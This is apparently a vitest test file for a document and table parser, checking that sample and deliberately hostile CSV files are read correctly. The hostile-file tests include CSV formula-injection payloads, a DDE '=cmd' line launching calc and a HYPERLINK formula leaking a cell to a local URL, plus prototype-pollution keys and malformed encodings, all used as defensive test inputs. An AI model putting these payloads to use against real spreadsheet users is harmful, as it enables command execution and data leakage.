import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { describe, expect, test } from 'vitest'
import { LineMap, textOrigin } from '../../table/locate.ts'
import type { Block, Document, Passage, Table } from '../../table/model.ts'
import { readDocument } from '../choose.ts'

/** Real documents and damaged files, too many and not ours to keep here. */
const CORPUS = resolve(import.meta.dirname, '../../..', process.env.MULINT_CORPUS ?? '../shared')

interface Probe {
  readonly table: number
  readonly row: number
  readonly column: number
  readonly line: number
  readonly col: number
  readonly text: string
}

interface Manifest {
  readonly expected: {
    readonly blocks: readonly { readonly type: 'p' | 'table'; readonly text?: string }[]
    readonly tables: readonly {
      readonly headerAnchors: readonly (readonly string[])[]
      readonly rowsAnchors: readonly (readonly string[])[]
    }[]
  }
  readonly files: readonly {
    readonly file: string
    readonly format: string
    readonly encoding?: string
    readonly probes?: readonly Probe[]
  }[]
}

const present = existsSync(CORPUS)

test.runIf(!present && process.env.CI === 'true')('the corpus is there', () => {
  expect.fail(`no corpus in ${CORPUS}; MULINT_CORPUS names another folder`)
})

describe.skipIf(!present)('seeds', () => {
  test.each([
    ['000_4eba1c19de281af7', 1, [[17, 12]]],
    ['001_37eed8d6a0720b66', 1, [[30, 12]]],
    ['002_ae6eb2a06ee62a50', 1, [[17, 12]]],
    [
      '003_8398b021416f8c8e',
      18,
      [
        [14, 4],
        [9, 9],
      ],
    ],
    ['004_c62194a191f85d59', 2, [[70, 5]]],
  ])('%s', async (name, paragraphs, sizes) => {
    const document = await read(`seeds/${name}.txt`)
    const tables = tablesOf(document)
    expect(document).toMatchObject({ format: 'txt', encoding: 'utf-8', notices: [] })
    expect(document.blocks.filter(({ kind }) => kind === 'paragraph')).toHaveLength(paragraphs)
    expect(tables.map((table) => [table.rows.length, widthOf(table)])).toEqual(sizes)
  })

  test.each(['000_4eba1c19de281af7', '001_37eed8d6a0720b66', '002_ae6eb2a06ee62a50'])(
    '%s is headed 序号',
    async (name) => {
      const [table] = tablesOf(await read(`seeds/${name}.txt`))
      expect(table?.rows[0]?.map(({ text }) => text)).toEqual(
        expect.arrayContaining(['序号', '公开事项', '公开依据', '公开时限', '公开方式']),
      )
    },
  )

  test.each(sampleFolders())('%s says what its manifest says', async (folder) => {
    const document = await read(`seeds/${folder}.txt`)
    expect(shapesOf(document)).toEqual(expectedShapes(manifestOf(folder)))
  })
})

describe.skipIf(!present)('samples', () => {
  const files = sampleFolders().flatMap((folder) =>
    manifestOf(folder)
      .files.filter(({ format }) => format === 'csv' || format === 'tsv')
      .map((file) => [`${folder}/${file.file}`, folder, file] as const),
  )

  test('there are some', () => {
    expect(files.length).toBeGreaterThanOrEqual(15)
  })

  test.each(files)('%s', async (path, folder, { format, encoding, probes = [] }) => {
    const document = await read(`formats/samples/${path}`)
    expect(document.format).toBe(format)
    expect(document.encoding).toBe(encoding?.replace(' with BOM', ''))
    expect(document.notices).toEqual([])
    expect(shapesOf(document)).toEqual(expectedShapes(manifestOf(folder)))
    expect(probes.length).toBeGreaterThan(0)
    expect(probes.map((probe) => placeOf(document, probe))).toEqual(
      probes.map(({ line, col, text }) => ({ line, col, text })),
    )
  })
})

describe.skipIf(!present)('hostile files', () => {
  test.each<[string, string[][][], string[]]>([
    [
      'cr-only.csv',
      [
        [
          ['序号', '公开事项'],
          ['1', '机构职能'],
          ['2', '公开依据'],
        ],
      ],
      [],
    ],
    [
      'csv-named.xlsx',
      [
        [
          ['序号', '公开事项'],
          ['1', '机构职能'],
        ],
      ],
      ['wrong-extension'],
    ],
    [
      'invalid-utf8.csv',
      [
        [
          ['序号', '公开事项'],
          ['1', '机构\ufffd\ufffd\ufffd(\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd职能'],
        ],
      ],
      ['damaged-encoding'],
    ],
    [
      'proto.csv',
      [
        [
          ['__proto__', 'constructor', 'toString'],
          ['polluted', '1', '2'],
        ],
      ],
      [],
    ],
    [
      'formula.csv',
      [
        [
          ['序号', '公开事项', '公开依据'],
          ['1', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd'],
          ['2', '+1+1', '-2+3'],
          ['3', '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"点我")', '\t=1+1'],
        ],
      ],
      [],
    ],
  ])('%s is read', async (file, tables, notices) => {
    const document = await read(`formats/samples/hostile/${file}`)
    expect(tablesOf(document).map(textsOf)).toEqual(tables)
    expect(document.notices.map(({ kind }) => kind)).toEqual(notices)
    expect(Reflect.get({}, 'polluted')).toBeUndefined()
  })

  test.each([
    ['mixed-encoding.csv', 3, 'damaged-encoding', '第3行（第'],
    ['nul.csv', 4, 'control-character', '有3处空字符（NUL），第一处在第2行第4个字符'],
    ['unclosed-quote.csv', 2003, 'unclosed-quote', '第2行有一处双引号没有收尾'],
  ])('%s is read with a notice', async (file, rows, kind, text) => {
    const { blocks, notices } = await read(`formats/samples/hostile/${file}`)
    expect(
      blocks.flatMap<unknown>((block) => (block.kind === 'table' ? block.rows : [block])),
    ).toHaveLength(rows)
    expect(notices).toEqual([{ kind, text: expect.stringContaining(text) }])
  })

  test('bidi-ansi.csv keeps its control characters and five rows', async () => {
    const document = await read('formats/samples/hostile/bidi-ansi.csv')
    const [table] = tablesOf(document)
    expect(table && textsOf(table).map(([first]) => first)).toEqual([
      '序号',
      '1',
      '2',
      '3',
      '4',
      '5',
    ])
    expect(table && textsOf(table)[1]?.[1]).toBe('\x1b[31m红\x1b[0m\x07')
    expect(table && textsOf(table)[5]?.[1]).toBe('a\u2028b\u2029c\u0085d')
    expect(document.notices).toEqual([])
  })

  test.each([
    ['nul.txt', 'not-text', '不是文本'],
    ['wide.csv', 'too-many-columns', '超过 16384 列'],
    ['png-named.docx', 'unsupported-format', ' PNG 图片'],
  ])('%s is refused as %s', async (file, reason, text) => {
    await expect(read(`formats/samples/hostile/${file}`)).rejects.toMatchObject({
      reason,
      message: expect.stringContaining(text),
    })
  })

  test.each('xlsx xls et docx doc wps pdf html csv tsv txt'.split(' '))(
    'empty.%s is empty',
    async (extension) => {
      await expect(read(`formats/samples/hostile/empty.${extension}`)).rejects.toMatchObject({
        reason: 'empty',
      })
    },
  )
})

/** A document of the corpus, once every passage has led back to its source. */
async function read(path: string): Promise<Document> {
  const document = await readDocument({ name: path, bytes: readFileSync(join(CORPUS, path)) })
  for (const passage of passagesOf(document.blocks)) {
    expect(traced(document.source ?? '', passage)).toBe(passage.text)
  }
  return document
}

function passagesOf(blocks: readonly Block[]): readonly Passage[] {
  return blocks.flatMap<Passage>((block) =>
    block.kind === 'paragraph' ? [block] : block.rows.flat(),
  )
}

function traced(source: string, passage: Passage): string {
  const { start, end, offsets } = textOrigin(passage)
  if (offsets === undefined) return source.slice(start, end)
  return offsets
    .slice(0, -1)
    .map((offset) => source[offset])
    .join('')
}

function tablesOf({ blocks }: Document): readonly Table[] {
  return blocks.filter((block) => block.kind === 'table')
}

function textsOf({ rows }: Table): readonly (readonly string[])[] {
  return rows.map((row) => row.map(({ text }) => text))
}

function widthOf({ rows }: Table): number {
  return Math.max(...rows.map((row) => row.length))
}

function shapesOf({ blocks }: Document): readonly unknown[] {
  return blocks.map((block) => (block.kind === 'paragraph' ? block.text : textsOf(block)))
}

function expectedShapes({ expected: { blocks, tables } }: Manifest): readonly unknown[] {
  const rest = tables.map(({ headerAnchors, rowsAnchors }) => [...headerAnchors, ...rowsAnchors])
  return blocks.map(({ type, text }) => (type === 'table' ? rest.shift() : text))
}

/** Where a probed field begins: a quoted one with its quote, which is no part of the text. */
function placeOf(document: Document, { table, row, column }: Probe) {
  const cell = tablesOf(document)[table]?.rows[row]?.[column]
  const source = document.source ?? ''
  const start = cell === undefined ? 0 : textOrigin(cell).start
  const begin = source[start - 1] === '"' ? start - 1 : start
  return { ...new LineMap(source).position(begin), text: cell?.text }
}

function sampleFolders(): readonly string[] {
  if (!present) return []
  return readdirSync(join(CORPUS, 'formats/samples')).filter((name) => /^\d/u.test(name))
}

function manifestOf(folder: string): Manifest {
  return JSON.parse(readFileSync(join(CORPUS, 'formats/samples', folder, 'manifest.json'), 'utf8'))
}
